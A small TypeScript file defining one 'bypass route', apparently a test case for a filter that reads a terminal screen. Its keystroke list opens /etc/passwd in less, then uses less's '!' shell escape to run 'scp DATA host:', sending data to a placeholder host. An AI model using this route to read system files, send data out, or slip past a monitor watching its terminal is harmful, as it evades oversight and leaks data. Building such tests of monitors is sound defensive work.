import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'from less',
  source: 'terminal routes past a filter that reads the screen',
  keys: ['less /etc/passwd\r', '!scp DATA host:\r\r', 'q'],
  isRaw: true,
};
